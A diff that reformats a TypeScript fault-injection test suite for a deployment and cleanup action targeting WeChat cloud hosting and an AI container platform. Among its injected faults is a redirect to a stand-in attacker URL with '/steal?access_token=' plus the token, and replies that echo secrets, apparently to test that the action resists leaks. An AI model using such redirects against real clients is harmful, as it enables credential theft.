@@ -36,14 +36,44 @@ export type Operation = 'deploy' | 'delete-versions' | 'clean-containers';
 export const OPERATION_ORDER: readonly Operation[] = ['deploy', 'delete-versions', 'clean-containers'];
 
 export type FaultKind =
-  | 'errcode' | 'http-5xx' | 'http-429' | 'slow' | 'drop-before-body' | 'drop-before-answer' | 'drop-after-handling'
-  | 'stall' | 'truncated-json' | 'malformed-json' | 'wrong-content-type' | 'redirect' | 'huge-body'
-  | 'errcode-as-string' | 'missing-fields' | 'echoes-secret';
+  | 'errcode'
+  | 'http-5xx'
+  | 'http-429'
+  | 'slow'
+  | 'drop-before-body'
+  | 'drop-before-answer'
+  | 'drop-after-handling'
+  | 'stall'
+  | 'truncated-json'
+  | 'malformed-json'
+  | 'wrong-content-type'
+  | 'redirect'
+  | 'huge-body'
+  | 'errcode-as-string'
+  | 'missing-fields'
+  | 'echoes-secret';
 
 const KINDS: readonly FaultKind[] = [
-  'errcode', 'errcode', 'errcode', 'http-5xx', 'http-5xx', 'http-429', 'slow', 'drop-before-body', 'drop-before-answer',
-  'drop-after-handling', 'drop-after-handling', 'stall', 'truncated-json', 'malformed-json', 'wrong-content-type',
-  'redirect', 'huge-body', 'errcode-as-string', 'missing-fields', 'echoes-secret',
+  'errcode',
+  'errcode',
+  'errcode',
+  'http-5xx',
+  'http-5xx',
+  'http-429',
+  'slow',
+  'drop-before-body',
+  'drop-before-answer',
+  'drop-after-handling',
+  'drop-after-handling',
+  'stall',
+  'truncated-json',
+  'malformed-json',
+  'wrong-content-type',
+  'redirect',
+  'huge-body',
+  'errcode-as-string',
+  'missing-fields',
+  'echoes-secret',
 ];
 
 /** A fault with what the suite needs to know about it. */
@@ -80,7 +110,10 @@ function endpoints(operation: Operation, variant: string): Endpoint[] {
   switch (operation) {
     case 'deploy':
       return [
-        ...token, wx('getcsversionlist', 4), wx('rollupdatecloudbaserunserverversion', 2), wx('getcsversiondetail', 2),
+        ...token,
+        wx('getcsversionlist', 4),
+        wx('rollupdatecloudbaserunserverversion', 2),
+        wx('getcsversiondetail', 2),
         ...(variant.includes('create') ? [wx('establishcloudbaserunserver', 2)] : []),
         ...(variant.includes('traffic') ? [wx('setcspropotion', 2)] : []),
       ];
@@ -90,7 +123,8 @@ function endpoints(operation: Operation, variant: string): Endpoint[] {
       return [
         ...(variant === 'password' ? [ai('/ac/openapi/v2/tokens', 1), ai('/ac/openapi/v2/center', 1)] : []),
         ...(variant === 'access-key' ? [ai('/api/user/v3/tokens', 1), ai('/ac/openapi/v2/center', 1)] : []),
-        ai(TASK, 2, 'GET'), ai(TASK, 6, 'DELETE'),
+        ai(TASK, 2, 'GET'),
+        ai(TASK, 6, 'DELETE'),
       ];
   }
 }
@@ -124,24 +158,35 @@ export function generateScenarios(seed: number, count: number, attackerUrl: stri
       return makeFault(pick(KINDS), endpoint, random, cursor, attackerUrl);
     });
     if (covering) faults.unshift(makeFault('errcode', places.at(-1)!, random, cursor, attackerUrl, covering));
-    const named = operation === 'delete-versions' && variant.endsWith('names')
-      ? [...OLD_VERSIONS.filter(() => random() < 0.6), ...(random() < 0.3 ? [pick(PROTECTED_VERSIONS)] : [])]
-      : [];
+    const named =
+      operation === 'delete-versions' && variant.endsWith('names')
+        ? [...OLD_VERSIONS.filter(() => random() < 0.6), ...(random() < 0.3 ? [pick(PROTECTED_VERSIONS)] : [])]
+        : [];
     scenarios.push({ index, operation, variant, faults, debug: random() < 0.3, named: named.length ? named : [OLD_VERSIONS[0]] });
   }
   return scenarios;
 }
 
 function makeFault(
-  kind: FaultKind, at: Endpoint, random: () => number, cursor: { wechat: number; ai: number; status: number }, attackerUrl: string, errcode?: string,
+  kind: FaultKind,
+  at: Endpoint,
+  random: () => number,
+  cursor: { wechat: number; ai: number; status: number },
+  attackerUrl: string,
+  errcode?: string,
 ): PlannedFault {
   const where = { match: at.match, ...(at.method ? { method: at.method } : {}) };
   const landed = random() < 0.5;
-  const raw = (status: number, body: string, headers?: Record<string, string>): EmulatorReply => ({ status, raw: body, ...(headers ? { headers } : {}) });
+  const raw = (status: number, body: string, headers?: Record<string, string>): EmulatorReply => ({
+    status,
+    raw: body,
+    ...(headers ? { headers } : {}),
+  });
   const wechat = at.platform === 'wechat';
   switch (kind) {
     case 'errcode': {
-      const code = errcode ?? (wechat ? WECHAT_CODES[cursor.wechat++ % WECHAT_CODES.length] : AI_CODE_LIST[cursor.ai++ % AI_CODE_LIST.length]);
+      const code =
+        errcode ?? (wechat ? WECHAT_CODES[cursor.wechat++ % WECHAT_CODES.length] : AI_CODE_LIST[cursor.ai++ % AI_CODE_LIST.length]);
       const json = wechat ? { errcode: Number(code), errmsg: 'injected errcode' } : { code, msg: 'injected code', data: null };
       return { kind, code, ...where, afterHandling: landed, reply: { status: 200, json } };
     }
@@ -164,29 +209,57 @@ function makeFault(
     case 'stall':
       return { kind, ...where, stallAfterBytes: 7 };
     case 'truncated-json':
-      return { kind, ...where, afterHandling: landed, reply: raw(200, wechat ? '{"errcode":0,"errmsg":"ok","ite' : '{"code":"0","msg":"success","da') };
+      return {
+        kind,
+        ...where,
+        afterHandling: landed,
+        reply: raw(200, wechat ? '{"errcode":0,"errmsg":"ok","ite' : '{"code":"0","msg":"success","da'),
+      };
     case 'malformed-json':
       return { kind, ...where, afterHandling: landed, reply: raw(200, "{errcode: 0, 'not': json}") };
     case 'wrong-content-type':
-      return { kind, ...where, afterHandling: landed, reply: raw(200, '<html><body><h1>502 Bad Gateway</h1></body></html>', { 'content-type': 'text/html' }) };
+      return {
+        kind,
+        ...where,
+        afterHandling: landed,
+        reply: raw(200, '<html><body><h1>502 Bad Gateway</h1></body></html>', { 'content-type': 'text/html' }),
+      };
     case 'redirect': {
       const status = [301, 302, 307, 308][cursor.status++ % 4];
-      return { kind, ...where, afterHandling: landed, reply: raw(status, '', { location: `${attackerUrl}/steal?access_token=${ACCESS_TOKEN}` }) };
+      return {
+        kind,
+        ...where,
+        afterHandling: landed,
+        reply: raw(status, '', { location: `${attackerUrl}/steal?access_token=${ACCESS_TOKEN}` }),
+      };
     }
     case 'huge-body':
       return { kind, ...where, afterHandling: landed, reply: raw(200, `{"errcode":0,"pad":"${'x'.repeat(9 * 1024 * 1024)}"}`) };
     case 'errcode-as-string':
       return {
-        kind, ...where, afterHandling: landed,
-        reply: { status: 200, json: wechat ? { errcode: random() < 0.5 ? '40097' : 'busy', errmsg: 'errcode sent as a string' } : { code: 10001, msg: 'code sent as a number' } },
+        kind,
+        ...where,
+        afterHandling: landed,
+        reply: {
+          status: 200,
+          json: wechat
+            ? { errcode: random() < 0.5 ? '40097' : 'busy', errmsg: 'errcode sent as a string' }
+            : { code: 10001, msg: 'code sent as a number' },
+        },
       };
     case 'missing-fields':
       // Without the field that says how the call went (an answer with code "0" is a success, whatever else it lacks).
       return { kind, ...where, afterHandling: landed, reply: { status: 200, json: wechat ? {} : { msg: 'success', data: null } } };
     case 'echoes-secret':
       return {
-        kind, ...where,
-        reply: { status: 200, json: wechat ? { errcode: 40014, errmsg: `invalid access_token ${SECRET_PLACEHOLDER}` } : { code: '10009', msg: `token rejected: ${SECRET_PLACEHOLDER}` } },
+        kind,
+        ...where,
+        reply: {
+          status: 200,
+          json: wechat
+            ? { errcode: 40014, errmsg: `invalid access_token ${SECRET_PLACEHOLDER}` }
+            : { code: '10009', msg: `token rejected: ${SECRET_PLACEHOLDER}` },
+        },
       };
   }
 }
@@ -211,7 +284,9 @@ export interface Expectation {
 /** Seeds the emulator for the scenario; returns the action's inputs and what may change. */
 export function setUp(emu: Emulator, scenario: Scenario): { inputs: Record<string, string>; expect: Expectation } {
   const network = { request_timeout: '1s', retry_budget: '3s' };
-  const wechatCredentials: Record<string, string> = scenario.variant.includes('component') ? { ...EMULATOR_COMPONENT } : { access_token: ACCESS_TOKEN };
+  const wechatCredentials: Record<string, string> = scenario.variant.includes('component')
+    ? { ...EMULATOR_COMPONENT }
+    : { access_token: ACCESS_TOKEN };
   emu.wechat.tokens.add(ACCESS_TOKEN);
   switch (scenario.operation) {
     case 'deploy': {
@@ -219,16 +294,37 @@ export function setUp(emu: Emulator, scenario: Scenario): { inputs: Record<strin
       emu.wechat.rollout = { buildMs: 20, deployMs: 20, outcome: 'ok' };
       const service = emu.wechat.addService(ENV, SERVICE, [
         { version_name: 'shop-api-001', created_time: new Date(Date.now() - 2 * DAY), image_url: 'ccr.ccs.tencentyun.com/shop/api:v1' },
-        { version_name: 'shop-api-002', created_time: new Date(Date.now() - DAY), image_url: 'ccr.ccs.tencentyun.com/shop/api:v2', flow_ratio: 100 },
+        {
+          version_name: 'shop-api-002',
+          created_time: new Date(Date.now() - DAY),
+          image_url: 'ccr.ccs.tencentyun.com/shop/api:v2',
+          flow_ratio: 100,
+        },
       ]);
       const inputs: Record<string, string> = {
-        operation: 'deploy', wechat_api_url: emu.url, ...wechatCredentials, ...network, env_id: ENV,
-        service_name: creating ? 'fresh-svc' : SERVICE, create_service: String(creating), image: IMAGE,
-        poll_interval: '20ms', timeout: '4s', ...(scenario.variant.includes('traffic') ? { traffic: '100' } : {}),
+        operation: 'deploy',
+        wechat_api_url: emu.url,
+        ...wechatCredentials,
+        ...network,
+        env_id: ENV,
+        service_name: creating ? 'fresh-svc' : SERVICE,
+        create_service: String(creating),
+        image: IMAGE,
+        poll_interval: '20ms',
+        timeout: '4s',
+        ...(scenario.variant.includes('traffic') ? { traffic: '100' } : {}),
       };
       // A rollout of shop-api replaces shop-api-002; shop-api-001 must survive whatever happens.
       const before = new Set(service.versions.map((v) => v.version_name));
-      return { inputs, expect: { selected: new Set(creating ? [] : ['shop-api-002']), protectedNames: new Set(['shop-api-001']), refused: new Set(), before } };
+      return {
+        inputs,
+        expect: {
+          selected: new Set(creating ? [] : ['shop-api-002']),
+          protectedNames: new Set(['shop-api-001']),
+          refused: new Set(),
+          before,
+        },
+      };
     }
     case 'delete-versions': {
       const versions = [
@@ -239,11 +335,25 @@ export function setUp(emu: Emulator, scenario: Scenario): { inputs: Record<strin
         { version_name: 'keep-002', days: 5 },
         { version_name: 'current', days: 1, flow_ratio: 70 },
       ];
-      emu.wechat.addService(ENV, SERVICE, versions.map(({ days, ...v }) => ({ ...v, created_time: new Date(Date.now() - days * DAY) })));
+      emu.wechat.addService(
+        ENV,
+        SERVICE,
+        versions.map(({ days, ...v }) => ({ ...v, created_time: new Date(Date.now() - days * DAY) })),
+      );
       const byNames = scenario.variant.endsWith('names');
-      const selection: Record<string, string> = byNames ? { versions: scenario.named.join('\n') } : { version_pattern: 'old-*', older_than: '1d' };
+      const selection: Record<string, string> = byNames
+        ? { versions: scenario.named.join('\n') }
+        : { version_pattern: 'old-*', older_than: '1d' };
       const selected = byNames ? scenario.named.filter((n) => OLD_VERSIONS.includes(n)) : OLD_VERSIONS;
-      const inputs = { operation: 'delete-versions', wechat_api_url: emu.url, ...wechatCredentials, ...network, env_id: ENV, service_name: SERVICE, ...selection };
+      const inputs = {
+        operation: 'delete-versions',
+        wechat_api_url: emu.url,
+        ...wechatCredentials,
+        ...network,
+        env_id: ENV,
+        service_name: SERVICE,
+        ...selection,
+      };
       return {
         inputs,
         expect: {
@@ -260,12 +370,31 @@ export function setUp(emu: Emulator, scenario: Scenario): { inputs: Record<strin
       const others = emu.ai.addContainers(3, { status: 'Completed', instanceServiceName: 'keep-notebook' });
       const explicit = others.slice(0, 2).map((c) => c.id);
       const credentials: Record<string, string> =
-        scenario.variant === 'token' ? { ai_api_url: emu.url, ai_token: emu.ai.issueToken() }
-        : scenario.variant === 'password' ? { ac_api_url: emu.url, ai_user: EMULATOR_AI_USER.ai_user, ai_password: EMULATOR_AI_USER.ai_password, ai_org_id: EMULATOR_AI_USER.ai_org_id }
-        : { ac_api_url: emu.url, scnet_api_url: emu.url, ai_user: EMULATOR_AI_USER.ai_user, ai_access_key: EMULATOR_AI_USER.ai_access_key, ai_secret_key: EMULATOR_AI_USER.ai_secret_key };
+        scenario.variant === 'token'
+          ? { ai_api_url: emu.url, ai_token: emu.ai.issueToken() }
+          : scenario.variant === 'password'
+            ? {
+                ac_api_url: emu.url,
+                ai_user: EMULATOR_AI_USER.ai_user,
+                ai_password: EMULATOR_AI_USER.ai_password,
+                ai_org_id: EMULATOR_AI_USER.ai_org_id,
+              }
+            : {
+                ac_api_url: emu.url,
+                scnet_api_url: emu.url,
+                ai_user: EMULATOR_AI_USER.ai_user,
+                ai_access_key: EMULATOR_AI_USER.ai_access_key,
+                ai_secret_key: EMULATOR_AI_USER.ai_secret_key,
+              };
       const inputs = {
-        operation: 'clean-containers', ...credentials, ...network, container_ids: explicit.join('\n'),
-        container_status: 'Terminated', container_name_pattern: 'nightly-*', batch_size: '3', concurrency: '3',
+        operation: 'clean-containers',
+        ...credentials,
+        ...network,
+        container_ids: explicit.join('\n'),
+        container_status: 'Terminated',
+        container_name_pattern: 'nightly-*',
+        batch_size: '3',
+        concurrency: '3',
       };
       return {
         inputs,
@@ -306,7 +435,11 @@ export function secretsOf(emu: Emulator, inputs: Record<string, string>): string
 /** The faults of a scenario with the run's own secret where an answer echoes one. */
 export function withRunSecret(faults: readonly PlannedFault[], inputs: Record<string, string>): PlannedFault[] {
   const secret = SECRET_INPUTS.map((name) => inputs[name]).find(Boolean) ?? '';
-  return faults.map((f) => (f.kind === 'echoes-secret' || f.kind === 'http-5xx' ? JSON.parse(JSON.stringify(f).replaceAll(SECRET_PLACEHOLDER, secret)) as PlannedFault : f));
+  return faults.map((f) =>
+    f.kind === 'echoes-secret' || f.kind === 'http-5xx'
+      ? (JSON.parse(JSON.stringify(f).replaceAll(SECRET_PLACEHOLDER, secret)) as PlannedFault)
+      : f,
+  );
 }
 
 export function judge(emu: Emulator, scenario: Scenario, inputs: Record<string, string>, expect: Expectation, run: ActionRun): Verdict {
@@ -333,14 +466,18 @@ function judgeDeploy(emu: Emulator, inputs: Record<string, string>, run: ActionR
   if (emu.wechat.runs.size > 1) verdict.unreported.push(`${emu.wechat.runs.size} rolling updates started for one deploy`);
   if (run.code !== 0) return;
   const version = emu.wechat.service(ENV, inputs.service_name)?.versions.find((v) => v.version_name === run.outputs.version_name);
-  if (emu.wechat.runs.size !== 1 || !emu.wechat.runs.has(run.outputs.run_id ?? '')) verdict.unreported.push('success without the rolling update it reports');
+  if (emu.wechat.runs.size !== 1 || !emu.wechat.runs.has(run.outputs.run_id ?? ''))
+    verdict.unreported.push('success without the rolling update it reports');
   if (run.outputs.status !== 'normal' || version?.status !== 'normal' || version.image_url !== IMAGE) {
-    verdict.unreported.push(`success, but version ${run.outputs.version_name} is ${version?.status ?? 'missing'} with ${version?.image_url ?? 'no image'}`);
+    verdict.unreported.push(
+      `success, but version ${run.outputs.version_name} is ${version?.status ?? 'missing'} with ${version?.image_url ?? 'no image'}`,
+    );
   }
 }
 
 function judgeDeletion(operation: Operation, expect: Expectation, run: ActionRun, gone: readonly string[], verdict: Verdict): void {
-  const [deletedOutput, failedOutput] = operation === 'clean-containers' ? ['deleted_containers', 'failed_containers'] : ['deleted_versions', 'failed_versions'];
+  const [deletedOutput, failedOutput] =
+    operation === 'clean-containers' ? ['deleted_containers', 'failed_containers'] : ['deleted_versions', 'failed_versions'];
   if (run.outputs[deletedOutput] === undefined) {
     // The run stopped before deciding what to delete: then it must have deleted nothing and failed.
     if (gone.length) verdict.unreported.push(`deleted ${gone.join(', ')} without outputs`);
